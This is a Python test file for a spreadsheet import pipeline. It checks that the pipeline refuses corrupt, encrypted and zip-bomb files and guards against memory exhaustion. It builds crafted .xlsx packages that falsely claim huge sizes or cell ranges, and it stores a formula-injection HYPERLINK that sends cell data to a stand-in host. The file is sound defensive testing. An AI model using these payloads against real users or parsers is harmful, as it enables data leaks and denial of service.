"""Files that must be refused with a clear word, and odd ones that must still be read."""

import io
import random
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from dashboard.importing import guards, read_binary
from dashboard.importing.pipeline import prepare
from dashboard.importing.problems import FileRefusedError
from dashboard.importing.read import read

REFUSED = {
    "加密名册.xlsx": "encrypted_or_unreadable",
    "损坏.xlsx": "corrupt",
    "空表.xlsx": "empty",
    "只有标题.xlsx": "no_data_rows",
    "混合编码.csv": "mixed_encoding",
    "压缩炸弹.xlsx": "zip_bomb",
    "其实是PDF.xlsx": "not_a_workbook_pdf",
}
READ = {
    "网页另存.xls": 20,
    "两百列.xlsx": 20,
    "公式注入.xlsx": 15,
    "五万空行.xlsx": 46,
    "1904日期.xlsx": 20,
}


@pytest.mark.parametrize(("file", "code"), REFUSED.items())
def test_refused_with_code_and_chinese_message(shared: Path, file: str, code: str) -> None:
    preview = prepare((shared / "inputs/county/nasty" / file).read_bytes(), file)
    assert preview.refusal is not None and preview.refusal.code == code
    assert preview.rows_accepted == 0
    assert "请" in preview.refusal.message and "Error" not in preview.refusal.message


@pytest.mark.parametrize(("file", "count"), READ.items())
def test_odd_files_are_read(shared: Path, import_file: Any, file: str, count: int) -> None:
    preview, _ = import_file(shared / "inputs/county/nasty" / file)
    assert (preview.rows_accepted, preview.rows_rejected) == (count, 0)


def test_days_counted_from_1904(shared: Path, import_file: Any, rows: Any) -> None:
    import_file(shared / "inputs/county/nasty/1904日期.xlsx")
    found = rows("SELECT CAST(rectified_on AS VARCHAR) FROM live_outlets ORDER BY row_number")
    assert [day for (day,) in found[:4]] == ["2010-05-15", "2010-05-10", "2010-05-13", "2010-02-08"]


def test_formulas_are_plain_text(shared: Path, import_file: Any, rows: Any) -> None:
    import_file(shared / "inputs/county/nasty/公式注入.xlsx")
    names = {name for (name,) in rows("SELECT name FROM live_outlets")}
    assert {'=HYPERLINK("http://example.invalid/?x="&B3,"点击")', "-2+3+cmd"} <= names


def package(sheet: str, extra: dict[str, str] | None = None) -> bytes:
    """The smallest .xlsx around one worksheet."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = {
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{relations}"><Relationship Id="rId1" '
        f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}">{sheet}</worksheet>',
    }
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**parts, **(extra or {})}.items():
            archive.writestr(name, text)
    return target.getvalue()


def test_two_cells_in_opposite_corners_do_not_end_the_process() -> None:
    """Found by us: 5 KB, for which the reader would ask for 512 GB and abort."""
    sheet = (
        '<sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    with pytest.raises(FileRefusedError) as refused:
        read(package(sheet), "角.xlsx")
    assert refused.value.code == "too_large"


def test_a_package_that_says_it_is_too_large_is_not_unpacked() -> None:
    content = bytearray(package("<sheetData/>"))
    entry = content.rindex(b"PK\x01\x02")
    content[entry + 24 : entry + 28] = (guards.MAX_UNPACKED_BYTES + 1).to_bytes(4, "little")
    with pytest.raises(FileRefusedError) as refused:
        guards.inspect_package(bytes(content))
    assert refused.value.code == "zip_bomb"


def test_a_sheet_wider_than_any_list_is_refused() -> None:
    with pytest.raises(FileRefusedError, match=f"有{guards.MAX_COLUMNS + 1}列") as refused:
        read(b"1," * guards.MAX_COLUMNS + b"1\n", "宽.csv")
    assert refused.value.code == "too_large"


def test_hidden_rows_and_columns_are_known() -> None:
    workbook = openpyxl.Workbook()
    for number in range(1, 5):
        workbook.active.append([number] * 4)
    workbook.active.row_dimensions[2].hidden = True
    workbook.active.column_dimensions.group("B", "C", hidden=True)
    target = io.BytesIO()
    workbook.save(target)
    only = read(target.getvalue(), "隐藏.xlsx").sheets[0]
    assert (only.hidden_rows, only.hidden_columns) == ({1}, {1, 2})


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "a.xlsx", "empty"),
        (b"\xef\xbb\xbf \r\n", "a.csv", "empty"),
        (b"PK\x03\x04 cut off", "a.xlsx", "corrupt"),
        (b"not a zip at all \x00\x01", "a.xlsx", "corrupt"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, "a.xls", "encrypted_or_unreadable"),
        ("﻿企业,结论\n甲,合格".encode("utf-16-le") + b"\xff\xdf\xff\xff", "a.csv", "undecodable"),
        (b"<html><body>nothing here</body></html>", "a.xls", "no_data_rows"),
    ],
)
def test_generated_rubbish(content: bytes, name: str, code: str) -> None:
    preview = prepare(content, name)
    assert preview.refusal is not None
    assert preview.refusal.code == code


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("delimiter", [",", "\t", ";"])
def test_text_encodings_and_delimiters(encoding: str, delimiter: str) -> None:
    lines = [["企业名称", "检验结论"], ["永嘉甲阀门厂", "合格"], ["永嘉乙，丙阀门厂", "不合格"]]
    content = "\r\n".join(delimiter.join(line) for line in lines).encode(encoding)
    assert read(content, "a.csv").sheets[0].rows == lines


def test_claimed_number_of_texts_is_not_believed() -> None:
    """Found by us: the reader asks for memory by the claim and ends the process."""
    sheet = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
    texts = '<sst count="1" uniqueCount="99999999999"><si><t>一</t></si></sst>'
    with pytest.raises(FileRefusedError) as refused:
        read(package(sheet, {"xl/sharedStrings.xml": texts}), "a.xlsx")
    assert refused.value.code == "corrupt"


def shared_text(text: str) -> bytes:
    """A workbook of four cells that share one text."""
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target)
    sheet = book.add_worksheet()
    for row in range(2):
        sheet.write_row(row, 0, [text, text])
    book.close()
    return target.getvalue()


def test_a_package_that_asks_for_more_than_it_holds_is_read_apart(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Every cell gets a copy of its own of a shared text: one of 1 MB and 10,000 cells make a file
    of 60 KB ask for 10 GB."""
    assert not guards.inspect_package(shared_text("长" * 1000)).is_heavy
    monkeypatch.setattr(guards, "MOST_SHARED_BYTES", 1000)
    content = shared_text("长" * 1000)
    assert guards.inspect_package(content).is_heavy
    assert read(content, "a.xlsx").sheets[0].rows == [["长" * 1000] * 2] * 2
    monkeypatch.setattr(read_binary, "MEGABYTES", 1)
    with pytest.raises(FileRefusedError) as refused:
        read(content, "a.xlsx")
    assert refused.value.code == "too_large" and "请" in refused.value.message


def test_cells_far_apart_and_merges_without_number_are_heavy() -> None:
    """27 million cells in 500 bytes; a usual list of 50,000 rows is not heavy."""
    far = '<sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
    merged = '<mergeCell ref="A1:B1"/>' * 200_001
    merges = f"<sheetData/><mergeCells>{merged}</mergeCells>"
    hidden = package("<sheetData/>", {"xl/other.xml": f"<worksheet>{far}</worksheet>"})
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 50_001))
    assert guards.inspect_package(package(far)).is_heavy
    assert guards.inspect_package(hidden).is_heavy
    assert guards.inspect_package(package(merges)).is_heavy
    assert not guards.inspect_package(package(f"<sheetData>{rows}</sheetData>")).is_heavy


@pytest.mark.soak
def test_damaged_xls_never_ends_the_process(shared: Path) -> None:
    """25 files with damaged bytes; some of them abort the reader's own process."""
    content = (shared / "inputs/national/aqsiq_2014_valves.xls").read_bytes()
    chance = random.Random(75)
    for _ in range(25):
        damaged = bytearray(content)
        for _ in range(chance.choice([1, 20, 200])):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        preview = prepare(bytes(damaged), "名单.xls")
        if preview.refusal is not None:
            assert "请" in preview.refusal.message
